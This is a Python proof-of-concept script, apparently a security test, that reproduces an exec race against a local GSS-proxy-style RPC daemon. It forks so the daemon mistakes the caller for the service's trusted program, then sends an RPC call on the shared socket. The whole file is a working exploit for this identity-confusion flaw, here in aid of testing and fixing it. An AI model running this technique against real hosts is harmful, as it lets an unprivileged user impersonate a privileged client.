"""The exec race of issue 14, item 7, exactly as the attack: connect, fork;
the parent execs the service's configured program while the child sends a
call on the shared connection.

    execrace.py SOCKET PROGRAM XID

The child waits until /proc/PPID/exe is PROGRAM (the exec is done, so a
daemon that reads the connector's executable now sees the program), sends
GSSX_INDICATE_MECHS with XID, reads the reply and prints `replied XID`.
The parent execs PROGRAM with `-c 'import time; time.sleep(10)'` (a copy
of the python binary) and is killed by the child once it has its reply.
Stdlib only: it runs as another uid.
"""

from __future__ import annotations

import os
import signal
import socket
import struct
import sys
import time


def indicate_mechs_call(xid: int) -> bytes:
    # RPC call header (AUTH_NONE), program 400112 v1, procedure 1, then an
    # empty gssx_call_ctx (locale, server_ctx, options: three empty arrays).
    body = struct.pack(">10I", xid, 0, 2, 400112, 1, 1, 0, 0, 0, 0) + struct.pack(">3I", 0, 0, 0)
    return struct.pack(">I", 0x80000000 | len(body)) + body


def main() -> int:
    path, program, xid = sys.argv[1], sys.argv[2], int(sys.argv[3], 0)
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    parent = os.getpid()
    child = os.fork()
    if child:
        os.execv(program, [program, "-c", "import time; time.sleep(10)"])
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            if os.readlink(f"/proc/{parent}/exe") == program:
                break
        except OSError:
            pass
    sock.sendall(indicate_mechs_call(xid))
    sock.settimeout(20)
    got = sock.recv(65536)
    os.kill(parent, signal.SIGKILL)
    print(f"replied {xid:#010x}" if got else "closed", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
